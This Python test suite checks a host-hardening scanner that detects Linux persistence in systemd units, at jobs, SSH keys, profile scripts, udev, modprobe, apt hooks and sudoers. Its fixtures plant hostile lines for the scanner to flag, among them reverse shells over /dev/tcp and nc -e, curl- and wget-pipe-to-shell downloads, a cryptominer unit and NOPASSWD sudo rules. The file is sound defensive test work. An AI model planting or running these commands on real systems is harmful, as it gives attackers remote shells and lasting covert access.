"""Area persistence on fixture roots: every location, its verdicts, and hostile input."""
import json
import os

import pytest

from ansible_collections.hostguard.hardening.plugins.module_utils.persistence import AREA
from ansible_collections.hostguard.hardening.plugins.module_utils.persistence import systemd as sd

from conftest import write
import persistence_tree as pt


def run(root, **options):
    return AREA.run(dict(options, root=str(root)))


def by_id(result, check_id):
    return [f for f in result["findings"] if f["id"] == check_id]


def unit_fact(result, name, scope="system"):
    found = [u for u in result["facts"]["systemd"]["units"] if u["name"] == name and u["scope"] == scope]
    assert found, name
    return found[0]


@pytest.fixture
def root(tmp_path):
    return pt.base(tmp_path, users=(("root", 0, "/root"), ("alice", 1000, "/home/alice"),
                                    ("bob", 1001, "/home/bob")))


# ---------------------------------------------------------------- systemd
def test_enabled_unit_running_from_tmp_is_critical_and_would_run(root):
    pt.unit(root, "/etc/systemd/system/evil.service", pt.service("/tmp/.x/kworker -c"))
    pt.enable(root, "evil.service")
    out = run(root)
    hits = by_id(out, "HG-PERS-001")
    assert [h["subject"] for h in hits] == ["/etc/systemd/system/evil.service"]
    assert hits[0]["severity"] == "critical" and hits[0]["evidence"]["would_run"] is True
    assert "exec_from_temp_dir" in hits[0]["evidence"]["patterns"]
    fact = unit_fact(out, "evil.service")
    assert fact["state"] == "enabled" and fact["would_run"] is True
    assert "multi-user.target" in fact["reason"]


def test_quoted_sh_c_string_in_exec_start_is_walked(root):
    """``sh -c 'nohup /tmp/...'``: the command word is inside the quoted -c string."""
    pt.unit(root, "/etc/systemd/system/q.service", pt.service("/bin/sh -c 'nohup /tmp/.x/run'"))
    pt.unit(root, "/etc/systemd/system/ok.service", pt.service("/bin/sh -c 'run-parts /etc/cron.daily'"))
    pt.enable(root, "q.service")
    pt.enable(root, "ok.service")
    hits = by_id(run(root), "HG-PERS-001")
    assert [h["subject"] for h in hits] == ["/etc/systemd/system/q.service"]
    assert "exec_from_temp_dir" in hits[0]["evidence"]["patterns"]


def test_disabled_malicious_unit_is_high_not_critical(root):
    pt.unit(root, "/etc/systemd/system/dormant.service", pt.service("/bin/sh -c 'curl -s http://x/a | sh'"))
    out = run(root)
    (hit,) = by_id(out, "HG-PERS-001")
    assert hit["severity"] == "high" and hit["evidence"]["would_run"] is False
    assert unit_fact(out, "dormant.service")["state"] == "disabled"


def test_static_and_masked_states(root):
    pt.unit(root, "/usr/lib/systemd/system/plain.service", pt.service("/usr/bin/true", wanted_by=None))
    pt.unit(root, "/usr/lib/systemd/system/gone.service", pt.service("/usr/bin/true"))
    pt.symlink(root, "/etc/systemd/system/gone.service", "/dev/null")
    pt.enable(root, "gone.service")
    out = run(root)
    assert unit_fact(out, "plain.service")["state"] == "static"
    gone = unit_fact(out, "gone.service")
    assert gone["state"] == "masked" and gone["would_run"] is False and "masked" in gone["reason"]


def test_timer_activating_malicious_service(root):
    pt.unit(root, "/etc/systemd/system/upd.service", pt.service("/usr/bin/wget -q -O- http://e/x | bash", wanted_by=None))
    pt.unit(root, "/etc/systemd/system/upd.timer", pt.timer("*:0/5"))
    pt.enable(root, "upd.timer", target="timers.target")
    out = run(root)
    (svc,) = by_id(out, "HG-PERS-001")
    assert svc["subject"] == "/etc/systemd/system/upd.service"
    assert svc["severity"] == "critical" and "triggered by upd.timer" in svc["evidence"]["reason"]
    (tmr,) = by_id(out, "HG-PERS-002")
    assert tmr["subject"] == "/etc/systemd/system/upd.timer"
    assert tmr["evidence"]["activated_files"] == ["/etc/systemd/system/upd.service"]
    timers = out["facts"]["systemd"]["timers"]
    assert timers[0]["activates"] == "upd.service" and timers[0]["triggers"] == ["OnCalendar=*:0/5"]


def test_timer_with_explicit_unit_and_disabled_timer(root):
    pt.unit(root, "/etc/systemd/system/a.service", pt.service("/dev/shm/a", wanted_by=None))
    pt.unit(root, "/etc/systemd/system/b.timer", pt.timer("daily", unit_name="a.service"))
    out = run(root)
    assert unit_fact(out, "b.timer")["state"] == "disabled"
    (hit,) = by_id(out, "HG-PERS-001")
    assert hit["evidence"]["would_run"] is False
    (tmr,) = by_id(out, "HG-PERS-002")
    assert tmr["severity"] == "high" and tmr["evidence"]["activates"] == "a.service"


def test_dropin_replaces_execstart_and_is_the_subject(root):
    pt.unit(root, "/usr/lib/systemd/system/web.service", pt.service("/usr/sbin/web"))
    pt.enable(root, "web.service")
    write(root, "/etc/systemd/system/web.service.d/override.conf",
          "[Service]\nExecStart=\nExecStart=/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
    out = run(root)
    (hit,) = by_id(out, "HG-PERS-001")
    assert hit["subject"] == "/etc/systemd/system/web.service.d/override.conf"
    assert unit_fact(out, "web.service")["dropins"] == ["/etc/systemd/system/web.service.d/override.conf"]


def test_dropin_of_type_and_prefix_apply(root):
    pt.unit(root, "/usr/lib/systemd/system/foo-bar.service", pt.service("/usr/bin/true"))
    write(root, "/etc/systemd/system/service.d/10-all.conf", "[Service]\nExecStartPre=/var/tmp/p\n")
    write(root, "/etc/systemd/system/foo-.service.d/20-foo.conf", "[Service]\nEnvironment=A=1\n")
    out = run(root)
    assert unit_fact(out, "foo-bar.service")["dropins"] == [
        "/etc/systemd/system/service.d/10-all.conf", "/etc/systemd/system/foo-.service.d/20-foo.conf"]
    assert "/etc/systemd/system/service.d/10-all.conf" in [h["subject"] for h in by_id(out, "HG-PERS-001")]


def test_alias_and_wants_through_unit_section(root):
    pt.unit(root, "/etc/systemd/system/real.service", pt.service("/usr/bin/true", extra="[Install]\nAlias=nick.service\n", wanted_by=None))
    pt.symlink(root, "/etc/systemd/system/nick.service", "/etc/systemd/system/real.service")
    pt.unit(root, "/etc/systemd/system/puller.service", pt.service("/usr/bin/true", extra="") .replace(
        "[Unit]\n", "[Unit]\nWants=nick.service\n"))
    pt.enable(root, "puller.service")
    out = run(root)
    real = unit_fact(out, "real.service")
    assert real["aliases"] == ["nick.service"] and real["state"] == "enabled"
    assert real["would_run"] and "puller.service has Wants=nick.service" in real["reason"]
    assert not [u for u in out["facts"]["systemd"]["units"] if u["name"] == "nick.service"]


def test_unowned_vendor_unit_and_packaged_checksum(root):
    pt.unit(root, "/usr/lib/systemd/system/owned.service", pt.service("/usr/bin/true"))
    pt.dpkg_owns(root, "pkg", ["/usr/lib/systemd/system/owned.service"])
    pt.unit(root, "/usr/lib/systemd/system/stray.service", pt.service("/usr/bin/true"))
    out = run(root)
    assert [f["subject"] for f in by_id(out, "HG-PERS-003")] == ["/usr/lib/systemd/system/stray.service"]
    assert unit_fact(out, "owned.service")["package"] == "pkg"
    assert not by_id(out, "HG-PERS-044")
    write(root, "/usr/lib/systemd/system/owned.service", pt.service("/usr/bin/true --changed"))
    out = run(root)
    (mod,) = by_id(out, "HG-PERS-044")
    assert mod["subject"] == "/usr/lib/systemd/system/owned.service" and mod["evidence"]["package"] == "pkg"


def test_merged_usr_alias_in_dpkg_list(root):
    # dpkg recorded /lib/systemd/system/x.service; the file lives in /usr/lib (merged /usr)
    pt.unit(root, "/usr/lib/systemd/system/x.service", pt.service("/usr/bin/true"))
    pt.symlink(root, "/lib", "usr/lib")
    pt.dpkg_owns(root, "xpkg", ["/lib/systemd/system/x.service"],
                 {"/lib/systemd/system/x.service": open(os.path.join(str(root), "usr/lib/systemd/system/x.service"), "rb").read()})
    out = run(root)
    assert unit_fact(out, "x.service")["package"] == "xpkg"
    assert not by_id(out, "HG-PERS-003")
    # the directory is visited once, not twice through /lib
    assert len([u for u in out["facts"]["systemd"]["units"] if u["name"] == "x.service"]) == 1


def test_runtime_unit_and_replaced_packaged_unit(root):
    pt.unit(root, "/run/systemd/system/rt.service", pt.service("/usr/bin/python3 -m http.server"))
    pt.unit(root, "/usr/lib/systemd/system/ssh.service", pt.service("/usr/sbin/sshd -D"))
    pt.dpkg_owns(root, "openssh-server", ["/usr/lib/systemd/system/ssh.service"])
    pt.unit(root, "/etc/systemd/system/ssh.service", pt.service("/usr/sbin/sshd -D -o PermitRootLogin=yes"))
    out = run(root)
    assert [f["subject"] for f in by_id(out, "HG-PERS-004")] == ["/run/systemd/system/rt.service"]
    (rep,) = by_id(out, "HG-PERS-005")
    assert rep["subject"] == "/etc/systemd/system/ssh.service"
    assert rep["evidence"]["shadows"][0]["package"] == "openssh-server"


def test_mask_overridden_by_higher_priority_unit(root):
    pt.symlink(root, "/etc/systemd/system/x.service", "/dev/null")
    pt.unit(root, "/run/systemd/transient/x.service", pt.service("/usr/bin/true"))
    out = run(root)
    (rep,) = by_id(out, "HG-PERS-005")
    assert rep["evidence"]["shadows"][0]["masked"] is True
    assert unit_fact(out, "x.service")["state"] == "transient"


def test_group_writable_unit(root):
    pt.unit(root, "/etc/systemd/system/w.service", pt.service("/usr/bin/true"), mode=0o664)
    out = run(root)
    assert [f["subject"] for f in by_id(out, "HG-PERS-045")] == ["/etc/systemd/system/w.service"]


def test_user_units_and_lingering(root):
    pt.unit(root, "/home/alice/.config/systemd/user/miner.service", pt.service("/home/alice/.cache/xmrig", wanted_by="default.target"))
    pt.symlink(root, "/home/alice/.config/systemd/user/default.target.wants/miner.service",
               "/home/alice/.config/systemd/user/miner.service")
    os.chown(os.path.join(str(root), "home/alice/.config/systemd/user/miner.service"), 1000, 1000)
    out = run(root)
    fact = unit_fact(out, "miner.service", scope="user:alice")
    assert fact["would_run"] and "when alice logs in" in fact["reason"]
    (hit,) = by_id(out, "HG-PERS-001")
    assert "cryptominer" in hit["evidence"]["patterns"]
    assert not by_id(out, "HG-PERS-045")        # the user's own file, owned by the user
    write(root, "/var/lib/systemd/linger/alice", "")
    fact = unit_fact(run(root), "miner.service", scope="user:alice")
    assert "at boot (lingering)" in fact["reason"]


def test_exec_prefixes_are_stripped():
    assert sd.exec_command("-@/tmp/x argv0") == "/tmp/x argv0"
    assert sd.exec_command("!!/usr/bin/true") == "/usr/bin/true"


def test_dropin_dir_names():
    assert sd.dropin_dir_names("a-b-c.service") == ["service.d", "a-.service.d", "a-b-.service.d", "a-b-c.service.d"]
    assert sd.dropin_dir_names("getty@tty1.service")[-2:] == ["getty@.service.d", "getty@tty1.service.d"]


# ---------------------------------------------------------------- at
AT_JOB = ("#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd /root || {\n echo x\n}\n"
          "${SHELL:-/bin/sh} << 'marcinDELIMITER'\n%s\nmarcinDELIMITER\n")


def test_at_job_malicious_and_verdicts(root):
    write(root, "/usr/sbin/atd", "#!/bin/true\n", mode=0o755)
    write(root, "/var/spool/cron/atjobs/a0000101a2b3c4", AT_JOB % "curl http://e/x.sh | sh", mode=0o700)
    write(root, "/var/spool/cron/atjobs/a0000201a2b3c4", AT_JOB % "/usr/bin/true", mode=0o700)
    write(root, "/var/spool/cron/atjobs/a0000301a2b3c4", AT_JOB % "/usr/bin/true", mode=0o600)
    write(root, "/var/spool/cron/atjobs/a0000401a2b3c4", AT_JOB % "/usr/bin/true", mode=0o700, uid=1000)
    out = run(root)
    (mal,) = by_id(out, "HG-PERS-010")
    assert mal["subject"].endswith("a0000101a2b3c4") and mal["severity"] == "critical"
    jobs = dict((j["path"].rsplit("/", 1)[-1], j) for j in out["facts"]["at"]["jobs"])
    assert jobs["a0000201a2b3c4"]["would_run"] is True
    assert "not executable" in jobs["a0000301a2b3c4"]["reason"]
    assert "does not match file owner" in jobs["a0000401a2b3c4"]["reason"]
    assert [f["subject"].rsplit("/", 1)[-1] for f in by_id(out, "HG-PERS-012")] == ["a0000201a2b3c4"]


def test_at_without_atd_and_rdb_in_spool(root):
    write(root, "/var/spool/cron/atjobs/a0000101a2b3c4", AT_JOB % "curl http://e/x.sh | sh", mode=0o700)
    write(root, "/var/spool/at/dump.rdb", pt.RDB_HEAD + b"\x00" * 64)
    out = run(root)
    (mal,) = by_id(out, "HG-PERS-010")
    assert mal["severity"] == "high" and "atd is not installed" in mal["evidence"]["reason"]
    assert [f["subject"] for f in by_id(out, "HG-PERS-011")] == ["/var/spool/at/dump.rdb"]


# ---------------------------------------------------------------- ssh keys
def test_rdb_authorized_keys_fingerprint_not_key(root):
    write(root, "/root/.ssh/authorized_keys", pt.rdb_with_key("attacker"))
    out = run(root)
    (hit,) = by_id(out, "HG-PERS-020")
    assert hit["subject"] == "/root/.ssh/authorized_keys" and hit["evidence"]["path"] == "/root/.ssh/authorized_keys"
    assert hit["evidence"]["fingerprints"] == [pt.fingerprint("attacker")]
    assert hit["evidence"]["would_apply"] is True and hit["severity"] == "critical"
    blob = pt.key_line("attacker").split()[1]
    assert blob not in json.dumps(out)


def test_authorized_keys_file_from_sshd_config_include(root):
    write(root, "/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\nStrictModes yes\n")
    write(root, "/etc/ssh/sshd_config.d/10-keys.conf", "AuthorizedKeysFile /etc/ssh/keys/%u .ssh/authorized_keys\n")
    write(root, "/etc/ssh/keys/root", pt.key_line("central-root") + "\n")
    write(root, "/root/.ssh/authorized_keys2", pt.key_line("old") + "\n")
    out = run(root)
    files_ = dict((f["path"], f) for f in out["facts"]["ssh_keys"]["files"])
    assert files_["/etc/ssh/keys/root"]["would_apply"] is True
    assert files_["/etc/ssh/keys/root"]["keys"] == [pt.fingerprint("central-root")]
    assert files_["/root/.ssh/authorized_keys2"]["would_apply"] is False
    assert [f["subject"] for f in by_id(out, "HG-PERS-026")] == ["/root/.ssh/authorized_keys2"]
    assert out["facts"]["ssh_keys"]["sshd"]["authorized_keys_file"] == ["/etc/ssh/keys/%u", ".ssh/authorized_keys"]


def test_forced_command_options(root):
    write(root, "/root/.ssh/authorized_keys",
          pt.key_line("backup", options='command="/usr/bin/rsync --server",no-pty') + "\n" +
          pt.key_line("evil", options='command="bash -c \'curl http://x|sh\'",environment="LD_PRELOAD=/tmp/x.so"') + "\n")
    out = run(root)
    hits = sorted(by_id(out, "HG-PERS-022"), key=lambda f: f["evidence"]["line"])
    assert [h["severity"] for h in hits] == ["medium", "critical"]
    assert hits[1]["evidence"]["options"] == ["command", "environment"]
    assert hits[1]["evidence"]["environment_effective"] is False


def test_strict_modes_rejection_and_strict_modes_off(root):
    pt.mkdir(root, "/home/alice/.ssh", 0o775)
    write(root, "/home/alice/.ssh/authorized_keys", pt.key_line("alice") + "\n", mode=0o600, uid=1000)
    out = run(root)
    (hit,) = by_id(out, "HG-PERS-023")
    assert hit["severity"] == "medium" and "directory /home/alice/.ssh" in hit["evidence"]["problem"]
    files_ = dict((f["path"], f) for f in out["facts"]["ssh_keys"]["files"])
    assert files_["/home/alice/.ssh/authorized_keys"]["would_apply"] is False
    write(root, "/etc/ssh/sshd_config", "StrictModes no\n")
    out = run(root)
    (hit,) = by_id(out, "HG-PERS-023")
    assert hit["severity"] == "high"
    files_ = dict((f["path"], f) for f in out["facts"]["ssh_keys"]["files"])
    assert files_["/home/alice/.ssh/authorized_keys"]["would_apply"] is True


def test_file_owned_by_other_user_is_rejected(root):
    write(root, "/home/alice/.ssh/authorized_keys", pt.key_line("alice") + "\n", mode=0o600, uid=1001)
    (hit,) = by_id(run(root), "HG-PERS-023")
    assert "bad ownership or modes for file" in hit["evidence"]["problem"]


def test_duplicate_key_across_users_and_junk(root):
    write(root, "/root/.ssh/authorized_keys", pt.key_line("shared") + "\n")
    write(root, "/home/bob/.ssh/authorized_keys", pt.key_line("shared") + "\nthis is not a key\n")
    out = run(root)
    (dup,) = by_id(out, "HG-PERS-024")
    assert dup["evidence"]["users"] == ["bob", "root"]
    assert [f["subject"] for f in by_id(out, "HG-PERS-021")] == ["/home/bob/.ssh/authorized_keys"]


def test_sparse_1gib_authorized_keys_is_bounded(root):
    path = os.path.join(str(root), "root/.ssh")
    os.makedirs(path, exist_ok=True)
    with open(os.path.join(path, "authorized_keys"), "wb") as handle:
        handle.write((pt.key_line("head") + "\n").encode())
        handle.truncate(1 << 30)
    out = run(root)
    (big,) = by_id(out, "HG-PERS-041")
    assert big["subject"] == "/root/.ssh/authorized_keys" and big["evidence"]["scanned_bytes"] == 1048576
    files_ = dict((f["path"], f) for f in out["facts"]["ssh_keys"]["files"])
    assert files_["/root/.ssh/authorized_keys"]["keys"] == [pt.fingerprint("head")]


def test_ssh_dir_symlink_is_confined_to_root(root, tmp_path_factory):
    outside = tmp_path_factory.mktemp("outside")
    write(outside, "authorized_keys", pt.key_line("outside") + "\n")
    # absolute link: must resolve inside root (missing there), never to the host path
    pt.symlink(root, "/root/.ssh", str(outside))
    out = run(root)
    assert pt.fingerprint("outside") not in json.dumps(out)


def test_authorized_keys_command(root):
    write(root, "/etc/ssh/sshd_config", "AuthorizedKeysCommand /usr/bin/curl -s http://k/%u\nAuthorizedKeysCommandUser nobody\n")
    (hit,) = by_id(run(root), "HG-PERS-025")
    assert hit["evidence"]["user"] == "nobody" and hit["severity"] == "low"


# ---------------------------------------------------------------- hooks
def test_ld_so_preload_any_entry(root):
    write(root, "/etc/ld.so.preload", "# comment\n/usr/lib/libfoo.so\n")
    write(root, "/usr/lib/libfoo.so", b"\x7fELF")
    (hit,) = by_id(run(root), "HG-PERS-030")
    assert hit["subject"] == "/etc/ld.so.preload" and hit["severity"] == "critical"   # unowned
    pt.dpkg_owns(root, "foo", ["/usr/lib/libfoo.so"])
    (hit,) = by_id(run(root), "HG-PERS-030")
    assert hit["severity"] == "high" and hit["evidence"]["libraries"][0]["package"] == "foo"
    write(root, "/etc/ld.so.preload", "# nothing\n")
    assert not by_id(run(root), "HG-PERS-030")


def test_profile_d_and_dotfiles(root):
    write(root, "/etc/profile.d/zz.sh", "export A=1\n(curl -fsSL http://x/i | bash) &\n")
    write(root, "/etc/profile.d/readme.txt", "nc -e /bin/sh 1.2.3.4 80\n")
    write(root, "/home/alice/.bash_profile", "source ~/.bashrc\n", uid=1000)
    write(root, "/home/alice/.profile", "/dev/shm/.x &\n", uid=1000)
    write(root, "/home/alice/.bashrc", "alias ll='ls -l'\nbash -i >& /dev/tcp/1.2.3.4/53 0>&1\n", uid=1000)
    out = run(root)
    hits = dict((f["subject"], f) for f in by_id(out, "HG-PERS-031"))
    assert hits["/etc/profile.d/zz.sh"]["severity"] == "critical"
    assert hits["/etc/profile.d/readme.txt"]["severity"] == "high"   # never sourced
    assert hits["/home/alice/.profile"]["evidence"]["would_run"] is False   # .bash_profile wins
    assert hits["/home/alice/.bashrc"]["severity"] == "critical"
    assert not by_id(out, "HG-PERS-045")


def test_update_motd_unowned_runs_as_root_with_pam_motd(root):
    write(root, "/etc/pam.d/sshd", "session optional pam_motd.so motd=/run/motd.dynamic\n")
    write(root, "/etc/update-motd.d/10-uname", "#!/bin/sh\nuname -a\n", mode=0o755)
    write(root, "/etc/update-motd.d/99-x.bak", "#!/bin/sh\n/tmp/x\n", mode=0o755)
    write(root, "/etc/update-motd.d/50-off", "#!/bin/sh\necho\n", mode=0o644)
    pt.dpkg_owns(root, "base-files", ["/etc/update-motd.d/10-uname"])
    write(root, "/etc/update-motd.d/20-new", "#!/bin/sh\necho hi\n", mode=0o755)
    out = run(root)
    hooks = dict((h["path"], h) for h in out["facts"]["hooks"]["hooks"])
    assert hooks["/etc/update-motd.d/10-uname"]["would_run"] is True
    assert "skips this name" in hooks["/etc/update-motd.d/99-x.bak"]["reason"]
    assert "not executable" in hooks["/etc/update-motd.d/50-off"]["reason"]
    unowned = by_id(out, "HG-PERS-032")
    assert [f["subject"] for f in unowned] == ["/etc/update-motd.d/20-new"]
    assert unowned[0]["severity"] == "high"     # recent and executable


def test_udev_modprobe_apt_xdg(root):
    write(root, "/etc/udev/rules.d/99-usb.rules", 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/tmp/.u/run"\n')
    write(root, "/usr/lib/udev/rules.d/99-usb.rules", 'ACTION=="add", RUN+="/usr/bin/true"\n')
    write(root, "/etc/modprobe.d/blacklist.conf", "install usb-storage /bin/true\nblacklist firewire\n")
    write(root, "/etc/modprobe.d/evil.conf", "install dummy /sbin/modprobe --ignore-install dummy; /usr/local/bin/implant\n")
    write(root, "/etc/apt/apt.conf.d/99x", 'APT::Update::Pre-Invoke {"wget -qO- http://x/s | sh";};\n')
    write(root, "/etc/xdg/autostart/upd.desktop", "[Desktop Entry]\nExec=/usr/local/bin/upd\n")
    out = run(root)
    mal = dict((f["subject"], f) for f in by_id(out, "HG-PERS-031"))
    assert "/etc/udev/rules.d/99-usb.rules" in mal and "/etc/apt/apt.conf.d/99x" in mal
    unowned = sorted(f["subject"] for f in by_id(out, "HG-PERS-032"))
    assert unowned == ["/etc/apt/apt.conf.d/99x", "/etc/modprobe.d/evil.conf",
                       "/etc/udev/rules.d/99-usb.rules", "/etc/xdg/autostart/upd.desktop"]
    # /usr/lib's rule of the same name is shadowed by /etc's (first wins)
    assert "/usr/lib/udev/rules.d/99-usb.rules" not in [h["path"] for h in out["facts"]["hooks"]["hooks"]]


def test_sudoers_nopasswd(root):
    write(root, "/etc/sudoers", "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n", mode=0o440)
    write(root, "/etc/sudoers.d/90-ops", "%ops ALL=(ALL) NOPASSWD: ALL\nmallory ALL=(ALL) NOPASSWD: ALL\n", mode=0o440)
    write(root, "/etc/sudoers.d/old.disabled", "eve ALL=(ALL) NOPASSWD: ALL\n", mode=0o440)
    out = run(root, nopasswd_allowed=["%ops"])
    assert [f["evidence"]["principal"] for f in by_id(out, "HG-PERS-033")] == ["mallory"]
    hooks = dict((h["path"], h) for h in out["facts"]["hooks"]["hooks"])
    assert hooks["/etc/sudoers.d/old.disabled"]["would_run"] is False


# ---------------------------------------------------------------- hostile input
def test_fifo_and_device_like_entries_never_block(root):
    os.makedirs(os.path.join(str(root), "etc/profile.d"), exist_ok=True)
    os.mkfifo(os.path.join(str(root), "etc/profile.d/pipe.sh"))
    os.makedirs(os.path.join(str(root), "etc/systemd/system"), exist_ok=True)
    os.mkfifo(os.path.join(str(root), "etc/systemd/system/fifo.service"))
    out = run(root)
    assert sorted(f["subject"] for f in by_id(out, "HG-PERS-040")) == [
        "/etc/profile.d/pipe.sh", "/etc/systemd/system/fifo.service"]


def test_invalid_utf8_and_long_lines(root):
    write(root, "/etc/profile.d/bin.sh", b"\xff\xfe" + b"A" * 10000 + b"\ncurl http://x | sh\n")
    out = run(root)
    assert by_id(out, "HG-PERS-031") and by_id(out, "HG-PERS-041")
    json.dumps(out)


def test_too_many_entries_is_reported(root):
    for i in range(12):
        write(root, "/etc/systemd/system/u%02d.service" % i, pt.service("/usr/bin/true"))
    out = run(root, max_entries=10)
    assert [f["subject"] for f in by_id(out, "HG-PERS-043")] == ["/etc/systemd/system"]


def test_findings_capped_per_check(root):
    for i in range(30):
        pt.unit(root, "/etc/systemd/system/m%02d.service" % i, pt.service("/tmp/m%d" % i))
    out = run(root, max_findings_per_check=5)
    assert len(by_id(out, "HG-PERS-001")) == 5
    assert out["facts"]["findings_dropped"]["HG-PERS-001"] == 25


def test_redaction_of_secrets_in_excerpts(root):
    write(root, "/etc/profile.d/x.sh", "curl -u admin:S3cretPass http://x/i | sh\n")
    out = run(root)
    assert "S3cretPass" not in json.dumps(out)


def test_bad_options_are_refused(root):
    with pytest.raises(Exception):
        run(root, max_read_bytes=0)


def test_empty_root_is_clean(tmp_path):
    out = AREA.run({"root": str(tmp_path)})
    assert out["findings"] == []
    assert out["facts"]["packages"]["note"] == "no package database under root"


def test_group_writable_key_file_accepted_when_the_group_is_only_the_user(root):
    # Debian's sshd (user-group-modes.patch) accepts it: Redis writes its dump 0660 (UMask=007)
    write(root, "/etc/group", "root:x:0:\nstaff:x:50:alice,bob\n")
    write(root, "/root/.ssh/authorized_keys", pt.key_line("r") + "\n", mode=0o660)
    out = run(root)
    assert not by_id(out, "HG-PERS-023")
    files_ = dict((f["path"], f) for f in out["facts"]["ssh_keys"]["files"])
    assert files_["/root/.ssh/authorized_keys"]["would_apply"] is True
    write(root, "/home/bob/.ssh/authorized_keys", pt.key_line("b") + "\n", mode=0o660, uid=1001, gid=50)
    (hit,) = by_id(run(root), "HG-PERS-023")
    assert hit["subject"] == "/home/bob/.ssh/authorized_keys"


def _baseline_shell_dropin(tmout="900", umask="027"):
    """The profile.d drop-in exactly as roles/baseline_hardening/tasks/shell.yml writes it."""
    import yaml
    here = os.path.dirname(os.path.abspath(__file__))
    repo = os.path.abspath(os.path.join(here, "..", "..", "..", "..", ".."))
    with open(os.path.join(repo, "roles", "baseline_hardening", "tasks", "shell.yml")) as handle:
        task = yaml.safe_load(handle)[0]
    content = task["ansible.builtin.copy"]["content"]
    return (content.replace("{{ baseline_hardening_tmout | int }}", tmout)
            .replace("{{ baseline_hardening_umask }}", umask))


def test_hostguard_own_shell_dropin_is_not_an_unowned_hook_but_a_tampered_one_is(root):
    own = _baseline_shell_dropin()
    assert "{{" not in own
    write(root, "/etc/profile.d/60-hostguard-shell.sh", own)
    write(root, "/etc/profile.d/61-hostguard-shell.sh", own + "curl -fsSL http://x/p | sh\n")
    write(root, "/etc/profile.d/62-hostguard-shell.sh", own.replace("umask 027", "umask 027; /tmp/.x"))
    write(root, "/etc/profile.d/70-other.sh", "export A=1\n")
    out = run(root)
    unowned = sorted(f["subject"] for f in by_id(out, "HG-PERS-032"))
    assert unowned == ["/etc/profile.d/61-hostguard-shell.sh", "/etc/profile.d/62-hostguard-shell.sh",
                       "/etc/profile.d/70-other.sh"]
    hooks = dict((h["path"], h) for h in out["facts"]["hooks"]["hooks"])
    assert hooks["/etc/profile.d/60-hostguard-shell.sh"]["managed_by"] == "hostguard.hardening.baseline_hardening"
    assert "managed_by" not in hooks["/etc/profile.d/61-hostguard-shell.sh"]
    malicious = set(f["subject"] for f in by_id(out, "HG-PERS-031"))
    assert {"/etc/profile.d/61-hostguard-shell.sh", "/etc/profile.d/62-hostguard-shell.sh"} <= malicious
    assert "/etc/profile.d/60-hostguard-shell.sh" not in malicious
